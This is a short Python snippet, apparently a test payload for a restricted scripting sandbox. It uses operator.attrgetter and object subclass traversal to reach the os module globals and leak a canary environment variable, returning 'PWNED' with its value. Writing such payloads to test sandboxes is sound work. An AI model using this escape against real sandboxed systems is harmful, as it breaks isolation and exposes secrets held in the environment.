import operator

Getter = type(operator.attrgetter("a"))
kinds = Getter("__class__.__base__.__subclasses__")(())()
for kind in kinds:
    if kind.__name__ == "_wrap_close":
        system = Getter("__init__.__globals__")(kind)
        return "PWNED " + system["environ"]["SCRIPTOOL_CANARY"]
return "no"
